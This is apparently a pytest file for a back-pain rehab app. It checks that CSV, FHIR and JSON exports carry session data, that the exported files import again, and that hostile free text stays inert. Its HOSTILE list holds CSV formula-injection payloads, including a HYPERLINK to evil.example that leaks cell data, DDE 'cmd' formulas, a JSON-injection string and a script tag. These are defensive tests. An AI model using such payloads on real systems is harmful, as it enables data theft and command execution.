"""Exports: CSV files carry every rep and rating, the FHIR Bundle validates with the
``fhir.resources`` models and its references resolve, and the results JSON (and the Bundle)
come back through :func:`import_results`."""

from __future__ import annotations

import csv
import json
import re
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from fhir.resources.R4B.bundle import Bundle

from coach.cli import main
from coach.core.engine import HoldRecord, RepRecord
from coach.reports.csv import export_csv
from coach.reports.fhir import export_fhir, fhir_bundle
from coach.reports.files import DISCLAIMER
from coach.reports.importer import ResultsFileError, import_results
from coach.reports.results import RESULTS_SCHEMA, export_json, results_json, session_results
from coach.store.history import History, open_history

T0 = datetime(2026, 11, 10, 17, 0, tzinfo=timezone.utc)


def _fill(h: History) -> list[str]:
    ids = []
    for k in range(3):
        when = T0 + timedelta(days=k)
        rec = h.recorder()
        sid = rec.start_session("clbp-starter-template", 2, when=when, app_version="0.1.0")
        rec.record_pain(2 + k, "before", when=when)
        rec.start_exercise(
            "glute_bridge",
            position=3,
            side="both",
            sets_planned=2,
            reps_planned=4,
            hold_s_planned=5,
            when=when,
        )
        for s in range(2):
            rec.start_set(s, when=when)
            for i in range(1, 5):
                rec.record_rep(
                    RepRecord(
                        s * 4 + i,
                        10.0 * i,
                        10.0 * i + 3,
                        12.0,
                        20.0 + i + k,
                        5.0,
                        ("over_arching",) if i == 4 else (),
                        ("too_fast",) if i == 1 else (),
                    )
                )
            rec.end_set(partial_reps=s)
        rec.end_exercise(
            {
                "reps": 8,
                "partial_reps": 1,
                "faults": {"over_arching": 2},
                "cues": [{"t": 40.0, "fault": "over_arching", "text": "Do not arch your back."}],
            },
            fault_info={"over_arching": ("amber", None)},
            when=when + timedelta(minutes=5),
        )
        rec.record_pain(3 + k, "after_exercise", when=when + timedelta(minutes=5, seconds=10))
        rec.start_exercise(
            "pelvic_tilt",
            position=2,
            sets_planned=1,
            reps_planned=3,
            when=when + timedelta(minutes=6),
        )
        for i in range(1, 4):
            rec.record_hold(HoldRecord(i, 10.0 * i, 10.0 * i + 5, 5.0 + i / 10, 0.0, ()))
        rec.end_exercise(
            {"reps": 0, "holds": [5.1, 5.2, 5.3], "faults": {}}, when=when + timedelta(minutes=8)
        )
        rec.record_pain(
            3 + k, "end", spreading_down_leg=(k == 2), stiffness=2, when=when + timedelta(minutes=9)
        )
        rec.end_session("completed", when=when + timedelta(minutes=10))
        h.record_next_morning(sid, 2, when=when + timedelta(hours=15))
        ids.append(sid)
    h.add_progression_event(
        "glute_bridge",
        "progress",
        "Progressed glute bridge (8 → 9 reps).",
        routine_id="clbp-starter-template",
        session_id=ids[-1],
        position=3,
        before={"sets": 2, "reps": 8},
        after={"sets": 2, "reps": 9},
        when=T0 + timedelta(days=2, hours=1),
    )
    h.add_posture_time(
        date(2026, 11, 11), {"upright": 1800.0, "slumped": 600.0}, breaks=3, alerts=1
    )
    return ids


@pytest.fixture
def history(tmp_path: Path) -> History:
    h, _ = open_history(tmp_path / "history.sqlite3")
    _fill(h)
    yield h
    h.close()


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_export(history: History, tmp_path: Path) -> None:
    files = export_csv(history, tmp_path / "csv")
    names = {f.name for f in files}
    assert {
        "sessions.csv",
        "reps.csv",
        "pain.csv",
        "exercises.csv",
        "holds.csv",
        "progression.csv",
        "posture.csv",
        "README.txt",
    } <= names
    sessions = _rows(tmp_path / "csv" / "sessions.csv")
    assert len(sessions) == 3
    assert [s["pain_before"] for s in sessions] == ["2", "3", "4"]
    assert [s["classification"] for s in sessions] == ["green", "amber", "red"]
    assert sessions[0]["reps_total"] == "8" and sessions[0]["duration_s"] == "600.0"
    reps = _rows(tmp_path / "csv" / "reps.csv")
    assert len(reps) == 24
    assert reps[3]["faults"] == "over_arching" and reps[0]["flags"] == "too_fast"
    assert reps[4]["set_index"] == "1" and reps[0]["duration_s"] == "3.0"
    pain = _rows(tmp_path / "csv" / "pain.csv")
    assert len(pain) == 12
    assert {p["context"] for p in pain} == {"before", "after_exercise", "end", "next_morning"}
    assert [p["exercise_id"] for p in pain if p["context"] == "after_exercise"] == [
        "glute_bridge"
    ] * 3
    assert _rows(tmp_path / "csv" / "exercises.csv")[0]["faults"] == "over_arching:2"
    assert len(_rows(tmp_path / "csv" / "holds.csv")) == 9
    assert "8 → 9" in (tmp_path / "csv" / "progression.csv").read_text(encoding="utf-8")
    assert DISCLAIMER in (tmp_path / "csv" / "README.txt").read_text(encoding="utf-8")
    # a date range narrows it
    export_csv(history, tmp_path / "one", date(2026, 11, 11), date(2026, 11, 11))
    assert len(_rows(tmp_path / "one" / "sessions.csv")) == 1


def test_fhir_bundle_validates_and_references_resolve(history: History, tmp_path: Path) -> None:
    path = export_fhir(history, tmp_path / "bundle.json", patient_name="J. Doe")
    bundle = Bundle.model_validate_json(
        path.read_text(encoding="utf-8")
    )  # the model validates it again
    assert bundle.type == "collection"
    urls = {e.fullUrl for e in bundle.entry}
    kinds = [e.resource.get_resource_type() for e in bundle.entry]
    assert (
        kinds.count("Patient") == 1 and kinds.count("Device") == 1 and kinds.count("Encounter") == 3
    )
    assert kinds.count("CarePlan") == 1
    obs = [e.resource for e in bundle.entry if e.resource.get_resource_type() == "Observation"]
    pain = [
        o
        for o in obs
        if any(c.code == "72514-3" and c.system == "http://loinc.org" for c in o.code.coding)
    ]
    exercise = [o for o in obs if any(c.code == "73985-4" for c in o.code.coding)]
    assert len(pain) == 12 and len(exercise) == 6
    assert sorted(int(o.valueQuantity.value) for o in pain) == sorted(
        [2, 3, 4, 3, 4, 5, 3, 4, 5, 2, 2, 2]
    )
    assert all(o.valueQuantity.code == "{score}" for o in pain)
    bridge = exercise[0]
    comps = {c.code.coding[0].code: c.valueQuantity.value for c in bridge.component}
    assert (
        comps["reps-counted"] == 8
        and comps["reps-partial"] == 1
        and comps["fault:over_arching"] == 2
    )
    assert bridge.category[0].coding[0].code == "activity"
    for o in obs:  # every reference points into the Bundle
        for ref in (o.subject, o.encounter, o.device, *(o.basedOn or [])):
            assert ref.reference in urls
    assert json.loads(path.read_text())["entry"][0]["resource"]["name"][0]["text"] == "J. Doe"
    # the same data gives the same Bundle ids (stable re-export)
    again = fhir_bundle(history, patient_name="J. Doe")
    assert [e.fullUrl for e in again.entry] == [e.fullUrl for e in bundle.entry]


def test_results_json_round_trips_through_import(history: History, tmp_path: Path) -> None:
    files = export_json(history, tmp_path / "json")
    assert len(files) == 3
    first = json.loads(files[0].read_text(encoding="utf-8"))
    assert first["schema"] == RESULTS_SCHEMA
    assert (
        first["pain"]["pre"] == 2
        and first["pain"]["post"] == 3
        and first["pain"]["next_morning"] == 2
    )
    item = first["items"][0]
    assert (
        item["exercise"] == "glute_bridge"
        and item["sets_planned"] == 2
        and item["reps_planned"] == 4
    )
    assert (
        len(item["sets"]) == 2
        and item["sets"][0]["reps_counted"] == 4
        and item["sets"][1]["reps_partial"] == 1
    )
    assert (
        item["sets"][0]["faults"] == {"over_arching": 1}
        and item["sets"][0]["rom"]["range_deg_min"] == 21.0
    )
    assert item["faults"]["over_arching"] == {
        "count": 2,
        "severity": "amber",
        "cue": "Do not arch your back.",
    }
    assert item["pain_after"] == 3
    assert first["items"][1]["holds"] == 3 and first["items"][1]["sets"][0][
        "hold_s_mean"
    ] == pytest.approx(5.2)
    for f in files:
        imported = import_results(f)
        assert imported.kind == "json" and len(imported.sessions) == 1
        assert imported.sessions[0] == session_results(history, imported.sessions[0].session_id)
    last = import_results(files[-1]).sessions[0]
    assert last.progression and last.progression[0].reason.startswith("Progressed glute bridge")
    # a list of sessions in one file
    combined = tmp_path / "all.json"
    combined.write_text(
        "["
        + ",".join(results_json(session_results(history, s.id)) for s in history.sessions())
        + "]"
    )
    assert len(import_results(combined).sessions) == 3


def test_fhir_bundle_imports_for_viewing(history: History, tmp_path: Path) -> None:
    path = export_fhir(history, tmp_path / "bundle.json")
    imported = import_results(path)
    assert imported.kind == "fhir" and len(imported.sessions) == 3
    for got, s in zip(imported.sessions, history.sessions(), strict=True):
        want = session_results(history, s.id)
        assert got.session_id == want.session_id and got.routine == want.routine
        assert got.start == want.start and got.end == want.end
        assert (got.pain.pre, got.pain.post, got.pain.next_morning) == (
            want.pain.pre,
            want.pain.post,
            want.pain.next_morning,
        )
        assert got.pain.spreading_reported == want.pain.spreading_reported
        assert [(r.context, r.value, r.exercise) for r in got.pain.ratings] == [
            (r.context, r.value, r.exercise) for r in want.pain.ratings
        ]
        assert [
            (i.exercise, i.reps_counted, i.reps_partial, i.holds, i.pain_after) for i in got.items
        ] == [
            (i.exercise, i.reps_counted, i.reps_partial, i.holds, i.pain_after) for i in want.items
        ]
        assert got.items[0].faults["over_arching"].count == 2


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not a JSON file"),
        (b'{"hello": 1}', "not a coach results file"),
        (b"[]", "not a coach results file"),
        (json.dumps({"schema": RESULTS_SCHEMA, "session_id": 3}).encode(), "problems"),
        (
            json.dumps({"resourceType": "Bundle", "type": "collection"}).encode(),
            "holds no coach sessions",
        ),
        (
            json.dumps(
                {
                    "resourceType": "Bundle",
                    "type": "collection",
                    "entry": [{"resource": {"resourceType": "Observation"}}],
                }
            ).encode(),
            "problems",
        ),
    ],
)
def test_import_rejects_bad_files_with_one_line(
    tmp_path: Path, content: bytes, fragment: str
) -> None:
    path = tmp_path / "x.json"
    path.write_bytes(content)
    with pytest.raises(ResultsFileError, match=re.escape(fragment)) as info:
        import_results(path)
    assert fragment in str(info.value) and "\n" not in str(info.value)
    with pytest.raises(ResultsFileError, match="cannot read"):
        import_results(tmp_path / "missing.json")


def test_import_tolerates_a_foreign_bundle(tmp_path: Path) -> None:
    enc = "urn:uuid:6f0c2f8e-0000-4000-8000-000000000001"
    bundle = {
        "resourceType": "Bundle",
        "type": "collection",
        "entry": [
            {
                "fullUrl": enc,
                "resource": {
                    "resourceType": "Encounter",
                    "status": "finished",
                    "class": {"code": "HH"},
                },
            },
            {
                "resource": {
                    "resourceType": "Observation",
                    "status": "final",
                    "encounter": {"reference": enc},
                    "code": {"coding": [{"system": "http://loinc.org", "code": "72514-3"}]},
                }
            },  # no value: skipped
            {
                "resource": {
                    "resourceType": "Observation",
                    "status": "final",
                    "encounter": {"reference": enc},
                    "effectiveDateTime": "2026-11-10T18:00:00+00:00",
                    "valueQuantity": {"value": 4},
                    "code": {"coding": [{"system": "http://loinc.org", "code": "72514-3"}]},
                }
            },
            {
                "resource": {
                    "resourceType": "Observation",
                    "status": "final",
                    "encounter": {"reference": enc},
                    "effectivePeriod": {"start": "2026-11-10T18:01:00+00:00"},
                    "code": {
                        "coding": [{"system": "http://loinc.org", "code": "73985-4"}],
                        "text": "walking",
                    },
                    "component": [
                        {
                            "code": {
                                "coding": [
                                    {
                                        "system": "https://rehabcoach.example/fhir/CodeSystem/exercise-metrics",
                                        "code": "fault:drift",
                                    }
                                ]
                            }
                        }
                    ],
                }
            },
        ],
    }
    path = tmp_path / "foreign.json"
    path.write_text(json.dumps(bundle))
    (s,) = import_results(path).sessions
    assert s.start == datetime(2026, 11, 10, 18, 0, tzinfo=timezone.utc)
    assert [r.value for r in s.pain.ratings] == [4] and s.pain.ratings[0].context == "on_demand"
    assert s.items[0].exercise == "walking" and s.items[0].faults["drift"].count == 0


def test_cli_export_and_import(
    history: History, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(history.path)
    assert main(["history", "--db", db, "export", "--csv", str(tmp_path / "c")]) == 0
    assert (tmp_path / "c" / "reps.csv").exists()
    assert (
        main(
            [
                "history",
                "--db",
                db,
                "export",
                "--fhir",
                str(tmp_path / "b.json"),
                "--from",
                "2026-11-10",
                "--to",
                "2026-11-11",
            ]
        )
        == 0
    )
    assert main(["history", "--db", db, "export", "--json", str(tmp_path / "j")]) == 0
    capsys.readouterr()
    assert main(["history", "import", str(tmp_path / "b.json")]) == 0
    out = capsys.readouterr().out
    assert (
        "2 session(s) (fhir)" in out
        and "glute_bridge" in out
        and "8 reps" in out
        and "over_arching x2" in out
    )
    assert main(["history", "--db", db, "list"]) == 0
    assert capsys.readouterr().out.count("clbp-starter-template") == 3
    bad = tmp_path / "bad.json"
    bad.write_text("nope")
    assert main(["history", "import", str(bad)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("coach: ") and err.count("\n") == 1
    assert (
        main(
            [
                "history",
                "--db",
                db,
                "export",
                "--csv",
                str(tmp_path / "d"),
                "--from",
                "2026-11-12",
                "--to",
                "2026-11-10",
            ]
        )
        == 2
    )


# ---------------------------------------------------------------------------------------------
# Safe to open, identity from the routine, writers that verify


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"}],"resourceType":"Patient","id":"evil',
    "<script>alert(1)</script>",
]
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _hostile_history(tmp_path: Path) -> History:
    h, _ = open_history(tmp_path / "hostile.sqlite3")
    for k, text in enumerate(HOSTILE):
        when = T0 + timedelta(hours=k)
        rec = h.recorder()
        rec.start_session(text, 1, when=when)  # a title recorded as the routine id
        rec.record_pain(2, "before", when=when)
        rec.start_exercise("glute_bridge", position=0, sets_planned=1, reps_planned=2, when=when)
        rec.record_rep(RepRecord(1, 1.0, 3.0, 2.0, -3.5, 5.0, ("over_arching",), ()))
        rec.end_exercise(
            {
                "reps": 1,
                "faults": {"over_arching": 1},
                "cues": [{"t": 1.0, "fault": "over_arching", "text": text}],
            },
            when=when + timedelta(minutes=1),
        )
        rec.end_session("completed", when=when + timedelta(minutes=2))
        h.add_progression_event(
            "glute_bridge",
            "progress",
            text,
            routine_id=text,
            before={"reps": 2},
            after={"reps": 3},
            when=when,
        )
    return h


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    h = _hostile_history(tmp_path)
    files = export_csv(h, tmp_path / "csv")
    seen = set()
    for f in files:
        if f.suffix != ".csv":
            continue
        with f.open(newline="", encoding="utf-8") as fh:
            for row in list(csv.reader(fh))[1:]:
                for cell in row:
                    if cell.startswith(_FORMULA):
                        float(cell)  # only a number may start with + or -
                    if cell.startswith("'"):
                        seen.add(cell[1:])
    # every hostile text arrived, quoted, in the files (routine ids, cues, reasons)
    assert {t for t in HOSTILE if t.startswith(_FORMULA)} <= seen
    sessions = _rows(tmp_path / "csv" / "sessions.csv")
    assert sessions[0]["routine_id"] == "'" + HOSTILE[0]
    assert sessions[6]["routine_id"] == HOSTILE[6]  # harmless text is left alone
    reps = _rows(tmp_path / "csv" / "reps.csv")
    assert reps[0]["range_deg"] == "-3.5"  # numbers stay numbers
    h.close()


def test_json_and_fhir_keep_free_text_as_data(tmp_path: Path) -> None:
    from coach.routines.routine import Routine

    h = _hostile_history(tmp_path)
    for f in export_json(h, tmp_path / "json"):
        data = json.loads(f.read_text(encoding="utf-8"))
        assert data["routine"]["id"] in HOSTILE and set(data) >= {"schema", "routine", "items"}
        assert data["items"][0]["faults"]["over_arching"]["cue"] == data["routine"]["id"]
    routine = Routine.model_validate(
        {
            "id": "r1",
            "title": HOSTILE[0],
            "author": {"name": HOSTILE[3]},
            "patient": {
                "display_name": HOSTILE[6],
                "birth_year": 1971,
                "external_ids": {"clinic": HOSTILE[1]},
            },
            "blocks": [{"name": "b", "items": [{"exercise": "glute_bridge", "notes": HOSTILE[2]}]}],
        }
    )
    path = export_fhir(h, tmp_path / "b.json", routine=routine)
    data = json.loads(path.read_text(encoding="utf-8"))
    kinds = [e["resource"]["resourceType"] for e in data["entry"]]
    assert kinds.count("Patient") == 1  # the name did not become a second resource
    patient = data["entry"][0]["resource"]
    assert patient["name"][0]["text"] == HOSTILE[6]
    assert patient["identifier"][0]["value"] == HOSTILE[1]
    plans = [e["resource"] for e in data["entry"] if e["resource"]["resourceType"] == "CarePlan"]
    assert sorted(p["identifier"][0]["value"] for p in plans) == sorted(HOSTILE)
    Bundle.model_validate(data)
    h.close()


def test_fhir_patient_and_careplans_come_from_the_routine(history: History, tmp_path: Path) -> None:
    from coach.routines.catalogue import exercises_dir
    from coach.routines.routine import parse_routine

    text = (exercises_dir() / "routines" / "clbp_starter.yaml").read_text()
    text = text.replace(
        "created: 2026-11-01",
        "patient:\n  display_name: J. Doe\n  birth_year: 1971\n"
        '  external_ids: {clinic: "23-4543", "https://fhir.nhs.uk/Id/nhs-number": "9434765919"}\n'
        "created: 2026-11-01",
    )
    f = tmp_path / "named.yaml"
    f.write_text(text)
    routine, _ = parse_routine(text, str(f))
    out = tmp_path / "b.json"
    assert (
        main(
            [
                "history",
                "--db",
                str(history.path),
                "export",
                "--fhir",
                str(out),
                "--routine",
                str(f),
            ]
        )
        == 0
    )
    bundle = Bundle.model_validate_json(out.read_text(encoding="utf-8"))
    (patient,) = [e.resource for e in bundle.entry if e.resource.get_resource_type() == "Patient"]
    assert patient.name[0].text == "J. Doe" and str(patient.birthDate) == "1971"
    assert [(i.system, i.value) for i in patient.identifier] == [
        ("https://rehabcoach.example/fhir/NamingSystem/patient-id/clinic", "23-4543"),
        ("https://fhir.nhs.uk/Id/nhs-number", "9434765919"),
    ]
    (plan,) = [e.resource for e in bundle.entry if e.resource.get_resource_type() == "CarePlan"]
    assert [(i.system, i.value) for i in plan.identifier] == [
        ("https://rehabcoach.example/fhir/NamingSystem/routine", "clbp-starter-template")
    ]
    assert plan.title == "Back pain starter - weeks 1 to 4 (version 2)"
    assert plan.extension[0].valueInteger == 2
    # and the version comes back on import
    (s, *_rest) = import_results(out).sessions
    assert (s.routine.id, s.routine.version) == ("clbp-starter-template", 2)
    csv_rows = _rows(export_csv(history, tmp_path / "c")[0])
    assert {r["routine_id"] for r in csv_rows} == {"clbp-starter-template"}


def test_exports_verify_and_refuse_wrong_targets(
    history: History, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch
) -> None:
    from coach.reports import csv as csv_export
    from coach.reports import fhir, files

    db = str(history.path)
    folder = tmp_path / "dir"
    folder.mkdir()
    assert main(["history", "--db", db, "export", "--fhir", str(folder)]) == 2
    err = capsys.readouterr().err
    assert "give the FHIR Bundle a file name" in err and list(folder.iterdir()) == []
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    assert main(["history", "--db", db, "export", "--csv", str(a_file)]) == 2
    assert "give a folder" in capsys.readouterr().err
    # a file that does not read back is an error, and no half-written file is left
    real = csv_export._verify_csv

    def broken(path, header, rows):
        path.write_text("")  # as if the disk lost it
        real(path, header, rows)

    monkeypatch.setattr(csv_export, "_verify_csv", broken)
    assert main(["history", "--db", db, "export", "--csv", str(tmp_path / "c")]) == 2
    assert "does not read back" in capsys.readouterr().err
    assert not list((tmp_path / "c").glob("*.csv")) and not list((tmp_path / "c").glob(".*"))
    monkeypatch.setattr(
        fhir, "_verify_fhir", lambda p, b: (_ for _ in ()).throw(files._unreadable(p, "test"))
    )
    assert main(["history", "--db", db, "export", "--fhir", str(tmp_path / "b.json")]) == 2
    assert not (tmp_path / "b.json").exists()
    monkeypatch.undo()
    assert main(["history", "--db", db, "export", "--json", str(tmp_path / "j")]) == 0
    printed = capsys.readouterr().out.split()
    assert len(printed) == 3 and all(Path(p).stat().st_size > 0 for p in printed)
